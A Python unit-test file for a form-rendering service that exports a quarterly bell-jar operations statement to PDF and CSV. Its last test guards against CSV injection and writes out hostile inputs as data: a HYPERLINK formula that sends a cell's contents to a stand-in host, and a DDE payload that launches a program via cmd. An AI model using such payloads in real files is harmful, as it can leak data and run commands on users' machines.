"""The form model's renderings (services/reports/form.py)."""

from __future__ import annotations

import csv
import io
import re
from datetime import date

from pypdf import PdfReader

from services.reports.form import Amount, Form, Line, Section, Table, to_csv, to_pdf


def _form() -> Form:
    return Form(
        code="GC-7Q",
        title="Quarterly Statement of Bell Jar Operations",
        organization="Elks — Lodge 1",
        period="Q4 2026",
        due=date(2027, 1, 15),
        due_rule="within 15 days after the quarter's end",
        sections=(
            Section(
                title="Section A",
                lines=(
                    Line(number="A1", label="Closed deals", value=3),
                    Line(number="A7", label="Ideal net proceeds", value=Amount(cents=-123456)),
                ),
            ),
            Section(
                title="Schedule 1",
                table=Table(columns=("serial", "handle"), rows=(("S-1", Amount(cents=5000)),)),
            ),
        ),
        notes=("a figure ≥ the limit",),
    )


def test_amounts_are_dollars_and_cents_in_both_renderings() -> None:
    text = PdfReader(io.BytesIO(to_pdf(_form()))).pages[0].extract_text()
    assert "-1,234.56" in text and "50.00" in text
    rows = to_csv(_form()).splitlines()
    assert "line,Section A,A7,Ideal net proceeds,-1234.56" in rows
    assert "row,Schedule 1,S-1,50.00" in rows
    assert "header,,due,2027-01-15" in rows


def test_the_pdf_draws_typographic_marks_its_fonts_lack_plainly() -> None:
    text = PdfReader(io.BytesIO(to_pdf(_form()))).pages[0].extract_text()
    assert "Elks - Lodge 1" in text and "a figure >= the limit" in text


def test_the_same_form_gives_the_same_pdf_bytes() -> None:
    """The PDF's creation date is the form's due date, not the clock's."""
    pdf = to_pdf(_form())
    created = PdfReader(io.BytesIO(pdf)).metadata.creation_date
    assert created is not None and created.date() == date(2027, 1, 15)
    assert pdf == to_pdf(_form())


def test_a_text_cell_a_spreadsheet_would_run_as_a_formula_is_quoted_amounts_are_not() -> None:
    """CSV injection: an expense's payee, address or description typed as ``=…``, ``+…``,
    ``-…``, ``@…`` or starting with a tab or CR reaches the GC-7's CSV as text, after a
    ``'``; a negative amount stays a number."""
    from services.reports.gc7 import build_gc7
    from tests.unit.reports.nights import expense, fold, two_nights

    typed = {
        "payee": '=HYPERLINK("http://x.example/?"&A1,"click")',
        "address": "+1 Main St",
        "description": "@SUM(A1:A9)",
    }
    entries = [*two_nights(3), expense(1, "other", 4_200, **typed)]
    entries.append(expense(2, "rent", 100, payee="-2+3", address="\tTab St", description="\rx"))
    _b, cash, expenses, sheets = fold(entries)
    form = build_gc7(
        "2026-11-01_2026-12-31",
        cash_control=cash,
        expenses=expenses.items,
        control_sheets=sheets.all_sheets(),
        organization="=cmd|' /C calc'!A0",
        timezone="America/New_York",
    )
    cells = [c for r in csv.reader(io.StringIO(to_csv(form), newline="")) for c in r]
    for text in (*typed.values(), "-2+3", "\tTab St", "=cmd|' /C calc'!A0"):
        assert "'" + text in cells
        assert text not in cells
    # A CR is written as a line break in a quoted cell: a bare CR would cut the row.
    assert "'\nx" in cells
    kinds = {r[0] for r in csv.reader(io.StringIO(to_csv(form), newline=""))}
    assert kinds <= {"header", "line", "columns", "row", "note"}
    assert not any(c[:1] in ("=", "+", "@", "\t", "\r") for c in cells)
    # Every cell starting with "-" is a number (an amount or a count), never text.
    assert all(re.fullmatch(r"-\d+(\.\d\d)?", c) for c in cells if c.startswith("-"))
    rows = to_csv(_form()).splitlines()
    assert "line,Section A,A7,Ideal net proceeds,-1234.56" in rows
